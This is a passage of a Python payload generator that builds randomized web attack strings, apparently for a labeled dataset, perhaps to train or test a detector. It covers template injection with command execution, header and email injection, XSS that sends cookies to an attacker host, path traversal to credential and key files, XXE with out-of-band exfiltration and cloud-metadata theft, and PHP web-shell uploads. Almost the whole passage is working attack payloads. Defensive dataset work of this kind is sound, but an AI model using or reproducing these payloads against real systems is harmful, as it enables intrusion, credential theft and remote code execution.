    L.append(lambda: A(S("__${T(java.lang.Runtime).getRuntime().exec('<<c>>')}__::.x", c=ucmd())))
    L.append(lambda: A(S("[[${T(java.lang.Runtime).getRuntime().exec('<<c>>')}]]", c=ucmd())))
    L.append(lambda: A(S('__*{T(java.lang.Runtime).getRuntime().exec("<<c>>")}__::..x', c=ucmd()), True))
    L.append(
        lambda: A(
            S(
                '__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec("<<c>>").getInputStream()).next()}__::.x',
                c=ucmd(),
            )
        )
    )
    L.append(lambda: A(S("<%= system('<<c>>') %>", c=ucmd())))
    L.append(lambda: A(S("<%= `<<c>>` %>", c=ucmd())))
    L.append(
        lambda: A(
            S("<%= File.open('<<f>>').read %>", f=pick(["/etc/passwd", "config/secrets.yml", "/proc/self/environ"]))
        )
    )
    L.append(lambda: A(S("<%= IO.popen('<<c>>').readlines() %>", c=ucmd())))
    L.append(
        lambda: A(
            S(
                '{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push "return process.mainModule.require(\'child_process\').execSync(\'<<c>>\');"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}',
                c=ucmd(),
            ),
            True,
        )
    )
    L.append(
        lambda: A(
            S(
                "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad(\"child_process\").exec('<<c>>')}()}",
                c=ucmd(),
            )
        )
    )
    L.append(
        lambda: A(
            S(
                "- var <<v>> = global.process.mainModule.require('child_process').execSync('<<c>>').toString()\n= <<v>>",
                v=alpha(1, 3),
                c=ucmd(),
            ),
            True,
        )
    )
    L.append(lambda: A(S("{system('<<c>>')}", c=ucmd())))
    L.append(lambda: A(S("{php}echo `<<c>>`;{/php}", c=ucmd())))
    L.append(lambda: A(S("{if system('<<c>>')}{/if}", c=ucmd())))
    L.append(
        lambda: A(
            S(
                "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['<<v>>']); ?>\",self::clearConfig())}",
                v=alpha(1, 3),
            ),
            True,
        )
    )
    L.append(lambda: A(S('${self.module.cache.util.os.system("<<c>>")}', c=ucmd())))
    L.append(lambda: A(S("<% import os; <<v>>=os.popen('<<c>>').read() %>${<<v>>}", v=alpha(1, 3), c=ucmd())))
    L.append(lambda: A(S('{% import os %}{{ os.popen("<<c>>").read() }}', c=ucmd())))
    L.append(lambda: A(S('@System.Diagnostics.Process.Start("cmd.exe","/c <<c>>")', c=wcmd())))
    L.append(
        lambda: A(
            S(
                "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('<<c>>')\")()}}",
                c=ucmd(),
            )
        )
    )
    L.append(lambda: A(S("%7B%7B<<a>>*<<b>>%7D%7D", a=N(), b=N()), True))
    L.append(
        lambda: A(
            S(
                "&#123;&#123;<<x>>&#125;&#125;",
                x=pick(["config.items()", "self.__init__.__globals__", "%d*%d" % (N(), N())]),
            ),
            True,
        )
    )
    L.append(
        lambda: A(
            S("{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('<<c>>').read() }}", c=ucmd())
        )
    )
    return L


def g_crlf():
    L = []
    B = lambda: pick(
        [
            "/account",
            "en",
            "https://%s/home" % pick(APP_HOSTS),
            tok(),
            "/dashboard?tab=%d" % ri(1, 5),
            "de-DE",
            "report.csv",
            "/",
            "",
        ]
    )
    CK = lambda: (
        pick(["session", "admin", "sid", "auth", "role", "uid", "debug"]) + "=" + pick([tok(), "1", "true", "admin"])
    )
    L.append(lambda: A(B() + "\r\nSet-Cookie: " + CK() + pick(["", "; Path=/", "; Domain=.%s" % pick(APP_HOSTS)])))
    L.append(lambda: A(B() + "\r\nLocation: https://" + ahost() + "/" + tok()))
    L.append(
        lambda: A(
            S(
                "<<b>>\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: <<n>>\r\n\r\n<script>alert(<<m>>)</script>",
                b=B(),
                n=ri(20, 40),
                m=ri(1, 999),
            )
        )
    )
    L.append(lambda: A(B() + "\nX-" + alpha(3, 8).title() + ": " + tok()))
    L.append(lambda: A(B() + "\rSet-Cookie: " + CK(), True))
    L.append(lambda: A(B() + "%0d%0aSet-Cookie:" + CK(), True))
    L.append(lambda: A(B() + "%0D%0ALocation:%20http://" + ahost() + "/", True))
    L.append(lambda: A(B() + "%0a%20Set-Cookie:" + CK(), True))
    L.append(lambda: A(B() + "%E5%98%8A%E5%98%8DSet-Cookie:" + CK(), True))
    L.append(lambda: A(B() + "%u000d%u000aX-" + alpha(3, 6) + ":%20" + tok(), True))
    L.append(lambda: A(B() + "\u560a\u560dSet-Cookie: " + CK(), True))
    L.append(lambda: A(B() + pick(["\u2028", "\u2029", "\u0085"]) + "Location: https://" + ahost() + "/", True))
    L.append(
        lambda: A(
            S(
                "<<u>>\n<<d>> INFO [auth] login succeeded for user=admin ip=10.0.<<a>>.<<b>>",
                u=first(),
                d="2026-12-%02dT%02d:%02d:%02dZ" % (ri(1, 7), ri(0, 23), ri(0, 59), ri(0, 59)),
                a=ri(0, 9),
                b=ri(1, 254),
            )
        )
    )
    L.append(
        lambda: A(
            S(
                '<<t>>\r\n127.0.0.1 - - [07/Dec/2026:10:<<m>>:<<s>> +0000] "GET /admin HTTP/1.1" 200 <<n>>',
                t=tok(),
                m="%02d" % ri(0, 59),
                s="%02d" % ri(0, 59),
                n=ri(200, 9000),
            )
        )
    )
    L.append(
        lambda: A(
            S(
                "<<b>>\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin HTTP/1.1\r\nHost: <<h>>",
                b=B(),
                h=pick(APP_HOSTS),
            ),
            True,
        )
    )
    L.append(
        lambda: A(
            B() + "\r\nAccess-Control-Allow-Origin: https://" + ahost() + "\r\nAccess-Control-Allow-Credentials: true"
        )
    )
    L.append(lambda: A(B() + "\r\nX-XSS-Protection: 0\r\n\r\n<svg onload=alert(" + str(ri(1, 99)) + ")>"))
    L.append(lambda: A(B() + "\r\n\tSet-Cookie: " + CK(), True))
    L.append(lambda: A(B() + "\\r\\nSet-Cookie: " + CK(), True))
    L.append(
        lambda: A(
            S(
                '<<f>>.pdf"\r\nContent-Type: text/html\r\n\r\n<html><<t>></html>',
                f=tok(),
                t=pick(["<h1>Session expired</h1>", "<form action=//" + ahost() + ">", tok()]),
            ),
            False,
            None,
            param="filename",
        )
    )
    L.append(lambda: A(B() + "%0d%0a%0d%0a<script>alert(document.domain)</script>" + tok(1, 3), True))
    L.append(lambda: A(B() + "%250d%250aSet-Cookie:" + CK(), True))
    L.append(lambda: A(B() + "\r\nRefresh: 0; url=https://" + ahost() + "/"))
    L.append(lambda: A(B() + "\r\nContent-Security-Policy: script-src *\r\nX-" + alpha(3, 5) + ": 1"))
    L.append(lambda: A(S("<<u>>@<<d>>\r\nX-Forwarded-For: 127.0.0.1", u=first(), d=pick(MAIL_DOMAINS))))
    L.append(lambda: A(B() + "\n\nHTTP/1.1 302 Found\nLocation: //" + ahost(), True))
    return L


def g_mail():
    L = []
    V = lambda: ", ".join(email_addr() for _ in range(ri(1, 4)))
    SUBJ = lambda: pick(
        [
            "Question about my order",
            "Hello",
            "Partnership inquiry",
            "Invoice %d" % ri(1000, 9999),
            "Support request",
            "Feedback",
        ]
    )
    L.append(lambda: A(person() + "\r\nBcc: " + V(), False, None, param="name"))
    L.append(lambda: A(email_addr() + "\r\nCc: " + V(), False, None, param=pick(["email", "from", "reply_to"])))
    L.append(lambda: A(email_addr() + "\nBcc:" + V(), False, None, param=pick(["email", "from", "sender"])))
    L.append(
        lambda: A(
            S(
                '<<s>>\r\nBcc: <<v>>\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<a href="http://<<h>>/"><<t>></a>',
                s=SUBJ(),
                v=V(),
                h=ahost(),
                t=pick(["Claim your prize", "Verify account", "Click here"]),
            ),
            False,
            None,
            param="subject",
        )
    )
    L.append(lambda: A(email_addr() + "%0ABcc:" + email_addr(), True, None, param=pick(["email", "from"])))
    L.append(lambda: A(email_addr() + "%0d%0aTo:%20" + email_addr(), True, None, param=pick(["email", "reply_to"])))
    L.append(lambda: A(email_addr() + ">\r\nRCPT TO:<" + email_addr() + ">", False, None, param=pick(["email", "to"])))
    L.append(
        lambda: A(
            S(
                "<<m>>\r\n.\r\nMAIL FROM:<<<a>>>\r\nRCPT TO:<<<b>>>\r\nDATA\r\nSubject: <<s>>\r\n\r\n<<t>>\r\n.",
                m=pick(["Thanks!", "Hi there", "see you"]),
                a=email_addr(),
                b=email_addr(),
                s=SUBJ(),
                t=pick(["Cheap meds", "You won", "Reset your password at http://%s/" % ahost()]),
            ),
            True,
            None,
            param="message",
        )
    )
    L.append(
        lambda: A(
            S("<<l>>@<<d>> -OQueueDirectory=/tmp -X/var/www/html/<<t>>.php", l=first(), d=pick(MAIL_DOMAINS), t=tok()),
            True,
            None,
            param=pick(["email", "from"]),
        )
    )
    L.append(
        lambda: A(
            S(
                '"<<l>>\\" -oQ/tmp/ -X/var/www/html/<<t>>.php <<x>>"@<<d>>',
                l=first(),
                t=tok(),
                x=alpha(2, 5),
                d=pick(MAIL_DOMAINS),
            ),
            True,
            None,
            param=pick(["email", "from"]),
        )
    )
    L.append(lambda: A(S("<<e>> -be ${run{/bin/sh -c '<<c>>'}}", e=email_addr(), c=ucmd()), True, None, param="from"))
    L.append(
        lambda: A(
            S("<<e>> -C/etc/passwd -X/tmp/<<t>>.log", e=email_addr(), t=tok()),
            True,
            None,
            param=pick(["email", "sender"]),
        )
    )
    L.append(
        lambda: A(
            S("=?UTF-8?Q?<<s>>=0D=0ABcc:_<<v>>?=", s=SUBJ().replace(" ", "_"), v=email_addr()),
            True,
            None,
            param="subject",
        )
    )
    L.append(lambda: A("=?utf-8?B?" + b64(SUBJ() + "\r\nBcc: " + email_addr()) + "?=", True, None, param="subject"))
    L.append(lambda: A(person() + pick(["\u2028", "\u0085"]) + "Bcc: " + email_addr(), True, None, param="name"))
    L.append(lambda: A(person() + "\nReply-To: " + email_addr() + "\nX-Mailer: " + tok(), False, None, param="name"))
    L.append(
        lambda: A(
            S(
                '<<s>>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="<<b>>"\r\n\r\n--<<b>>\r\nContent-Type: text/plain\r\n\r\n<<t>>\r\n--<<b>>--',
                s=SUBJ(),
                b=tok(8, 12),
                t=pick(["Act now", "Limited offer", "Account suspended"]),
            ),
            True,
            None,
            param="subject",
        )
    )
    L.append(lambda: A(person() + "\r\nX-Priority: 1\r\nBcc: " + V(), False, None, param="name"))
    L.append(lambda: A(person() + "\n To: " + email_addr(), True, None, param="name"))
    L.append(
        lambda: A(
            email_addr()
            + "\r\nSubject: "
            + pick(["URGENT", "Re: invoice", "Password reset"])
            + "\r\nBcc: "
            + email_addr(),
            False,
            None,
            param=pick(["friend_email", "to", "email"]),
        )
    )
    L.append(lambda: A(email_addr() + "%0ACc:" + email_addr() + "%0ABcc:" + email_addr(), True, None, param="email"))
    L.append(
        lambda: A(
            email_addr() + "\r\nContent-Type: text/html\r\n\r\n<h1>" + tok() + "</h1>", False, None, param="reply_to"
        )
    )
    L.append(lambda: A(email_addr() + "%0d%0aBcc:%20" + email_addr(), True, ["header"], hdr="From"))
    L.append(lambda: A(email_addr() + "\r\nBcc: " + email_addr() + "\r\n", False, None, param="cc"))
    return L


def g_xss():
    L = []
    F = lambda: pick(
        [
            "alert(1)",
            "alert(document.domain)",
            "confirm(%d)" % ri(1, 999),
            "prompt(%d)" % ri(1, 999),
            "print()",
            "fetch('//%s/?c='+document.cookie)" % ahost(),
            "import('//%s/x.js')" % ahost(),
            "alert(origin)",
            "location='//%s/?'+document.cookie" % ahost(),
            "eval(atob('%s'))" % b64("alert(%d)" % ri(1, 99)),
        ]
    )
    PRE = lambda: pick(["", '">', "'>", "</textarea>", "</title>", '"/>', "-->", "</script>", tok(3, 6)])
    L.append(lambda: A(PRE() + "<script>" + F() + "</script>"))
    L.append(lambda: A(PRE() + "<img src=x onerror=" + F() + ">"))
    L.append(lambda: A(PRE() + "<svg onload=" + F() + ">"))
    L.append(lambda: A(PRE() + "<svg><animate onbegin=" + F() + " attributeName=x dur=1s>"))
    L.append(lambda: A(PRE() + "<details open ontoggle=" + F() + ">"))
    L.append(lambda: A(PRE() + "<body onpageshow=" + F() + ">"))
    L.append(lambda: A("javascript:" + F()))
    L.append(lambda: A("jav&#x09;ascript:" + F(), True))
    L.append(lambda: A("java\tscript:" + F(), True))
    L.append(lambda: A(rcase("javascript") + ":" + F(), True))
    L.append(lambda: A("data:text/html;base64," + b64("<script>%s</script>" % F()), True))
    L.append(lambda: A(PRE() + "<script src=//" + ahost() + "/" + tok() + ".js></script>"))
    L.append(lambda: A(pick(["'", '"']) + "-" + F() + "-" + pick(["'", '"']), True))
    L.append(lambda: A("</script><script>" + F() + "</script>"))
    L.append(lambda: A('<iframe srcdoc="&lt;script&gt;' + F().replace("'", "&#39;") + '&lt;/script&gt;">', True))
    L.append(lambda: A('<noscript><p title="</noscript><img src=x onerror=' + F() + '>">', True))
    L.append(lambda: A("<math><mtext><table><mglyph><style><img src=x onerror=" + F() + ">", True))
    L.append(lambda: A('<svg></p><style><a id="</style><img src=1 onerror=' + F() + '>">', True))
    L.append(
        lambda: A(
            PRE() + "<img src=x onerror=" + pick(["alert", "confirm", "prompt"]) + "`" + str(ri(1, 999)) + "`>", True
        )
    )
    L.append(lambda: A(PRE() + "<svg onload=" + pick(["alert", "confirm"]) + "`${document.cookie}`>", True))
    L.append(
        lambda: A(
            PRE()
            + '<img src=x onerror="window.onerror='
            + pick(["alert", "confirm", "eval"])
            + ";throw "
            + str(ri(1, 99))
            + '">',
            True,
        )
    )
    L.append(lambda: A(PRE() + "<svg onload=\"onerror=eval;throw'=alert\\x28" + str(ri(1, 99)) + "\\x29'\">", True))
    L.append(lambda: A(PRE() + "<svg onload=location='javas'+'cript:al'+'ert(" + str(ri(1, 99)) + ")'>", True))
    L.append(lambda: A('<a href="&#106;avascript:' + F() + '">' + tok() + "</a>", True))
    L.append(lambda: A(PRE() + "<input autofocus onfocus=" + F() + ">"))
    L.append(lambda: A(PRE() + "<video><source onerror=" + F() + "></video>"))
    L.append(lambda: A(PRE() + "<marquee onstart=" + F() + ">" + tok() + "</marquee>"))
    L.append(lambda: A(PRE() + '<object data="javascript:' + F().replace('"', "'") + '"></object>'))
    L.append(lambda: A(PRE() + "<base href=//" + ahost() + "/>"))
    L.append(lambda: A(PRE() + "<form action=javascript:" + F() + "><button>" + tok() + "</button></form>"))
    L.append(lambda: A("{{constructor.constructor('" + F().replace("'", '"') + "')()}}", True))
    L.append(lambda: A("%3Cscript%3E" + F() + "%3C%2Fscript%3E", True))
    L.append(lambda: A("&lt;img src=x onerror=" + F() + "&gt;", True))
    L.append(lambda: A("<scr<script>ipt>" + F() + "</scr</script>ipt>", True))
    L.append(lambda: A(PRE() + "<IMG SRC=x " + rcase("onerror") + "=" + F() + ">", True))
    L.append(lambda: A(PRE() + "<svg/onload=" + F() + ">", True))
    L.append(
        lambda: A(
            PRE() + "<img src=x onerror=" + "".join("&#%d;" % ord(c) for c in "alert") + "(" + str(ri(1, 999)) + ")>",
            True,
        )
    )
    L.append(lambda: A("<a href=javas&#99;ript:" + F() + ">" + tok() + "</a>", True))
    L.append(
        lambda: A(
            "<x onclick=" + F() + " style=display:block;position:fixed;top:0;left:0;width:100%;height:100%>" + tok(),
            False,
        )
    )
    L.append(lambda: A(PRE() + "<svg><script href=data:," + F() + " />", True))
    L.append(lambda: A(PRE() + "<style>@import'//" + ahost() + "/" + tok() + ".css';</style>"))
    L.append(
        lambda: A(
            pick(["", "photo", tok(3, 6)])
            + "<img src=x:x onerror="
            + F().replace('"', "'")
            + " "
            + tok(2, 4)
            + ">.png",
            False,
            ["multipart"],
            fname=True,
            pctype="image/png",
        )
    )
    return L


UNIX_F = [
    "etc/passwd",
    "etc/shadow",
    "etc/hosts",
    "etc/group",
    "proc/self/environ",
    "proc/self/cmdline",
    "proc/version",
    "root/.ssh/id_rsa",
    "root/.bash_history",
    "var/log/auth.log",
    "var/www/html/.env",
    "app/config/database.yml",
    "usr/local/etc/php/php.ini",
    "etc/nginx/nginx.conf",
    "home/ubuntu/.aws/credentials",
    "etc/mysql/my.cnf",
    "proc/self/fd/0",
    "var/run/secrets/kubernetes.io/serviceaccount/token",
]
WIN_F = [
    "windows\\win.ini",
    "windows\\system32\\drivers\\etc\\hosts",
    "boot.ini",
    "inetpub\\wwwroot\\web.config",
    "Windows\\repair\\SAM",
    "Windows\\System32\\config\\SYSTEM",
    "xampp\\apache\\conf\\httpd.conf",
]
JAVA_F = [
    "WEB-INF/web.xml",
    "WEB-INF/classes/application.properties",
    "META-INF/MANIFEST.MF",
    "WEB-INF/classes/hibernate.cfg.xml",
]


def g_pt():
    L = []
    D = lambda: ri(3, 9)
    L.append(lambda: A("../" * D() + pick(UNIX_F)))
    L.append(lambda: A("..\\" * D() + pick(WIN_F)))
    L.append(lambda: A("%2e%2e%2f" * D() + pick(UNIX_F), True))
    L.append(lambda: A("..%2f" * D() + pick(UNIX_F).replace("/", pick(["/", "%2f"])), True))
    L.append(lambda: A("%2e%2e/" * D() + pick(UNIX_F), True))
    L.append(lambda: A("..%252f" * D() + pick(UNIX_F), True))
    L.append(lambda: A("%252e%252e%252f" * D() + pick(UNIX_F), True))
    L.append(lambda: A("%c0%ae%c0%ae%c0%af" * D() + pick(UNIX_F), True))
    L.append(lambda: A("..%c0%af" * D() + pick(UNIX_F), True))
    L.append(lambda: A("..%e0%80%af" * D() + pick(UNIX_F), True))
    L.append(lambda: A("....//" * D() + pick(UNIX_F), True))
    L.append(lambda: A("..././" * D() + pick(UNIX_F), True))
    L.append(lambda: A("..%5c" * D() + pick(WIN_F).replace("\\", "%5c"), True))
    L.append(lambda: A("%2e%2e%5c" * D() + pick(WIN_F), True))
    L.append(
        lambda: A(
            "../" * D() + pick(UNIX_F) + "\x00." + pick(["png", "jpg", "pdf", "html"]),
            True,
            ["query", "form", "json", "cookie", "path", "multipart"],
        )
    )
    L.append(lambda: A("../" * D() + pick(UNIX_F) + "%00." + pick(["png", "jpg", "txt"]), True))
    L.append(lambda: A("/" + pick(UNIX_F)))
    L.append(lambda: A(pick(["C:\\", "c:\\", "C:/"]) + pick(WIN_F).replace("\\", pick(["\\", "/"]))))
    L.append(lambda: A("\\\\?\\C:\\" + pick(WIN_F), True))
    L.append(
        lambda: A(
            pick(["images", "uploads", "static/img", "docs", "files/%d" % ri(1, 999)])
            + "/"
            + "../" * D()
            + pick(UNIX_F)
        )
    )
    L.append(lambda: A("/var/www/html/" + "../" * D() + pick(UNIX_F)))
    L.append(lambda: A("..;/" * ri(1, 4) + pick(JAVA_F + ["manager/html", "admin/console"]), True))
    L.append(lambda: A("../" * ri(1, 3) + pick(JAVA_F)))
    L.append(lambda: A("%u002e%u002e%u2215" * D() + pick(UNIX_F), True))
    L.append(lambda: A("\uff0e\uff0e\uff0f" * D() + pick(UNIX_F), True))
    L.append(lambda: A("..%u2216" * D() + pick(WIN_F), True))
    L.append(lambda: A("..\\/" * D() + pick(UNIX_F), True))
    L.append(lambda: A(".%2e/" * D() + pick(UNIX_F), True))
    L.append(lambda: A("./" + "../././" * D() + pick(UNIX_F), True))
    L.append(lambda: A("..//" * D() + pick(UNIX_F).replace("/", "//"), True))
    L.append(
        lambda: A(
            "../" * D() + "var/www/html/" + pick(["%s.php" % tok(), "shell.jsp", "x.aspx"]),
            False,
            ["multipart"],
            fname=True,
            content="<?php system($_GET['c']); ?>",
        )
    )
    L.append(lambda: A("/%2e%2e" * D() + "/" + pick(UNIX_F), True))
    L.append(lambda: A("../" * D() + ".git/" + pick(["config", "HEAD", "logs/HEAD"])))
    L.append(lambda: A(pick(["file:///", "file:/", "file://localhost/"]) + pick(UNIX_F)))
    L.append(lambda: A("....\\\\" * D() + pick(WIN_F), True))
    L.append(lambda: A("../" * D() + pick(["etc/passwd", "etc/hosts"]) + "/./" * ri(1, 3) + ".", True))
    return L


def xxe_doc(decl_body, root, body_inner, prolog=True, attrs=""):
    s = '<?xml version="1.0" encoding="UTF-8"?>\n' if prolog else ""
    s += "<!DOCTYPE %s [%s]>\n<%s%s>%s</%s>" % (root, decl_body, root, attrs, body_inner, root)
    return s


def g_xxe():
    L = []
    ROOT = lambda: pick(
        [
            "user",
            "order",
            "request",
            "data",
            "feed",
            "invoice",
            "profile",
            "product",
            "search",
            "note",
            "import",
            "stockCheck",
        ]
    )
    ENT = lambda: alpha(2, 6)
    FILE = lambda: pick(
        [
            "file:///etc/passwd",
            "file:///etc/hostname",
            "file:///etc/shadow",
            "file:///proc/self/environ",
            "file:///c:/windows/win.ini",
            "file:///home/app/.ssh/id_rsa",
            "file:///var/www/html/config.php",
            "file:///etc/issue",
        ]
    )

    def classic():
        r, e = ROOT(), ENT()
        f = pick(["name", "id", "q", "title", "sku"])
        inner = pick(["&%s;" % e, "<%s>&%s;</%s>" % (f, e, f)])
        return A(
            xxe_doc('<!ENTITY %s SYSTEM "%s">' % (e, FILE()), r, inner),
            False,
            ["xml", "form", "json", "query"],
            whole=True,
        )

    L.append(classic)

    def remote_pe():
        r, e = ROOT(), ENT()
        return A(
            xxe_doc('<!ENTITY %% %s SYSTEM "http://%s/%s.dtd"> %%%s;' % (e, ahost(), tok(), e), r, tok()),
            False,
            ["xml", "multipart", "form"],
            whole=True,
        )

    L.append(remote_pe)

    def oob():
        r = ROOT()
        return A(
            xxe_doc(
                '<!ENTITY %% file SYSTEM "%s"><!ENTITY %% dtd SYSTEM "http://%s:%d/%s.dtd">%%dtd;%%send;'
                % (FILE(), ahost(), aport(), tok()),
                r,
                tok(),
            ),
            True,
            ["xml"],
            whole=True,
        )

    L.append(oob)

    def nested_pe():
        r = ROOT()
        return A(
            xxe_doc(
                '<!ENTITY %% f SYSTEM "%s"><!ENTITY %% a "<!ENTITY &#x25; b SYSTEM \'http://%s/?d=%%f;\'>">%%a;%%b;'
                % (FILE(), ahost()),
                r,
                tok(),
            ),
            True,
            ["xml"],
            whole=True,
        )

    L.append(nested_pe)

    def local_dtd():
        r = pick(["message", "doc", "entry"])
        dtd, ent = pick(
            [
                ("file:///usr/share/yelp/dtd/docbookx.dtd", "ISOamso"),
                ("file:///usr/share/xml/fontconfig/fonts.dtd", "constant"),
                ("jar:file:///usr/share/java/tomcat-jsp-api.jar!/javax/servlet/jsp/resources/jspxml.dtd", "URI"),
            ]
        )
        body = (
            '<!ENTITY %% local_dtd SYSTEM "%s"><!ENTITY %% %s \'<!ENTITY &#x25; file SYSTEM "%s"><!ENTITY &#x25; eval "<!ENTITY &#x26;#x25; error SYSTEM &#x27;file:///nonexistent/&#x25;file;&#x27;>">&#x25;eval;&#x25;error;\'>%%local_dtd;'
            % (dtd, ent, FILE())
        )
        return A(xxe_doc(body, r, tok()), True, ["xml"], whole=True)

    L.append(local_dtd)

    def xinclude():
        r = ROOT()
        return A(
            '<%s xmlns:xi="http://www.w3.org/2001/XInclude"><%s><xi:include parse="text" href="%s"/></%s></%s>'
            % (r, "name", FILE(), "name", r),
            True,
            ["xml", "json", "form"],
            whole=True,
        )

    L.append(xinclude)

    def svg():
        e = ENT()
        doc = (
            '<?xml version="1.0" standalone="yes"?>\n<!DOCTYPE svg [<!ENTITY %s SYSTEM "%s">]>\n<svg xmlns="http://www.w3.org/2000/svg" width="%d" height="%d"><text x="10" y="20">&%s;</text></svg>'
            % (e, FILE(), pick([64, 128, 256]), pick([64, 128, 256]), e)
        )
        return A(
            doc,
            False,
            ["multipart", "xml"],
            whole=True,
            file=True,
            filename=pick(["logo", "avatar", "icon", tok()]) + ".svg",
            pctype="image/svg+xml",
            ctype="image/svg+xml",
        )

    L.append(svg)

    def docx():
        e = ENT()
        doc = (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<!DOCTYPE w:document [<!ENTITY %% %s SYSTEM "http://%s/%s.dtd">%%%s;]>\n<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>%s</w:t></w:r></w:p></w:body></w:document>'
            % (e, ahost(), tok(), e, pick(WORDS).title())
        )
        return A(doc, True, ["multipart"], file=True, filename="word/document.xml", pctype="application/xml")

    L.append(docx)

    def xlsx():
        e = ENT()
        doc = (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<!DOCTYPE sst [<!ENTITY %s SYSTEM "%s">]>\n<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>&%s;</t></si></sst>'
            % (e, FILE(), e)
        )
        return A(doc, True, ["multipart"], file=True, filename="xl/sharedStrings.xml", pctype="application/xml")

    L.append(xlsx)

    def soap():
        e = ENT()
        op = pick(["GetUser", "GetOrderStatus", "CheckStock", "Login"])
        doc = (
            '<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE soap:Envelope [<!ENTITY %s SYSTEM "%s">]>\n<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><%s xmlns="urn:%s"><id>&%s;</id></%s></soap:Body></soap:Envelope>'
            % (e, FILE(), op, pick(WORDS), e, op)
        )
        return A(
            doc,
            False,
            ["xml"],
            whole=True,
            ctype="text/xml; charset=utf-8",
            xh={"SOAPAction": '"urn:%s"' % op},
            path=pick(["/soap/UserService", "/services/OrderService", "/ws/inventory"]),
        )

    L.append(soap)
    L.append(
        lambda: (
            lambda r, e: A(
                xxe_doc(
                    '<!ENTITY %s SYSTEM "php://filter/convert.base64-encode/resource=%s">' % (e, pick(PHPF)),
                    r,
                    "&%s;" % e,
                ),
                False,
                ["xml", "form", "query"],
                whole=True,
            )
        )(ROOT(), ENT())
    )
    L.append(
        lambda: (
            lambda r, e: A(
                xxe_doc(
                    '<!ENTITY %s SYSTEM "expect://%s">' % (e, pick(["id", "whoami", "uname", "hostname"])),
                    r,
                    "&%s;" % e,
                ),
                False,
                ["xml"],
                whole=True,
            )
        )(ROOT(), ENT())
    )

    def laughs():
        r = ROOT()
        n = ri(5, 8)
        ents = ['<!ENTITY l0 "%s">' % alpha(2, 4)] + [
            '<!ENTITY l%d "%s">' % (i, ("&l%d;" % (i - 1)) * 10) for i in range(1, n)
        ]
        return A(xxe_doc("".join(ents), r, "&l%d;" % (n - 1)), True, ["xml"], whole=True)

    L.append(laughs)
    L.append(
        lambda: (
            lambda r: A(
                '<?xml version="1.0"?>\n<!DOCTYPE %s PUBLIC "-//%s//DTD %s 1.0//EN" "http://%s/%s.dtd">\n<%s>%s</%s>'
                % (r, pick(WORDS).upper(), r.title(), ahost(), tok(), r, tok(), r),
                False,
                ["xml"],
                whole=True,
            )
        )(ROOT())
    )

    def utf7():
        r, e = ROOT(), ENT()
        inner = '<!DOCTYPE %s [<!ENTITY %s SYSTEM "%s">]><%s>&%s;</%s>' % (r, e, FILE(), r, e, r)
        return A(
            '<?xml version="1.0" encoding="UTF-7"?>' + inner.encode("utf-7").decode("ascii"), True, ["xml"], whole=True
        )

    L.append(utf7)
    L.append(
        lambda: (
            lambda r, e: A(
                xxe_doc(
                    '<!ENTITY %s SYSTEM "\\\\%s\\%s\\%s">' % (e, ahost(), pick(["share", "x"]), tok()), r, "&%s;" % e
                ),
                True,
                ["xml"],
                whole=True,
            )
        )(ROOT(), ENT())
    )
    L.append(
        lambda: (
            lambda r, e: A(
                xxe_doc(
                    '<!ENTITY %s SYSTEM "jar:http://%s/%s.zip!/%s.txt">' % (e, ahost(), tok(), tok()), r, "&%s;" % e
                ),
                True,
                ["xml"],
                whole=True,
            )
        )(ROOT(), ENT())
    )
    L.append(
        lambda: (
            lambda r, e: A(
                xxe_doc('<!ENTITY %s SYSTEM "netdoc:///etc/%s">' % (e, pick(["passwd", "hosts"])), r, "&%s;" % e),
                True,
                ["xml"],
                whole=True,
            )
        )(ROOT(), ENT())
    )
    L.append(
        lambda: (
            lambda r, e: A(
                xxe_doc(
                    '<!ENTITY %s SYSTEM "http://169.254.169.254/latest/meta-data/%s">'
                    % (e, pick(["iam/security-credentials/", "hostname", ""])),
                    r,
                    "&%s;" % e,
                ),
                False,
                ["xml", "json"],
                whole=True,
            )
        )(ROOT(), ENT())
    )

    def rss():
        e = ENT()
        doc = (
            '<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY %s SYSTEM "%s">]>\n<rss version="2.0"><channel><title>%s</title><item><title>&%s;</title><link>https://%s/</link></item></channel></rss>'
            % (e, FILE(), pick(WORDS).title() + " News", e, pick(LEGIT_HOSTS))
        )
        return A(doc, False, ["xml", "multipart", "form"], whole=True, ctype="application/rss+xml", param="feed")

    L.append(rss)

    def spaced():
        r, e = ROOT(), ENT()
        doc = (
            '<?xml version="1.0"?>\n<!DOCTYPE\n\t%s\n\t[\n\t<!ENTITY\n\t\t%s\n\t\tSYSTEM\n\t\t"%s"\n\t>\n\t]\n>\n<%s>&%s;</%s>'
            % (r, e, FILE(), r, e, r)
        )
        return A(doc, True, ["xml"], whole=True)

    L.append(spaced)

    def kml():
        e = ENT()
        doc = (
            '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE kml [<!ENTITY %s SYSTEM "%s">]>\n<kml xmlns="http://www.opengis.net/kml/2.2"><Placemark><name>&%s;</name><Point><coordinates>%.4f,%.4f</coordinates></Point></Placemark></kml>'
            % (e, FILE(), e, R.uniform(-120, 120), R.uniform(-60, 60))
        )
        return A(
            doc,
            False,
            ["multipart", "xml"],
            whole=True,
            file=True,
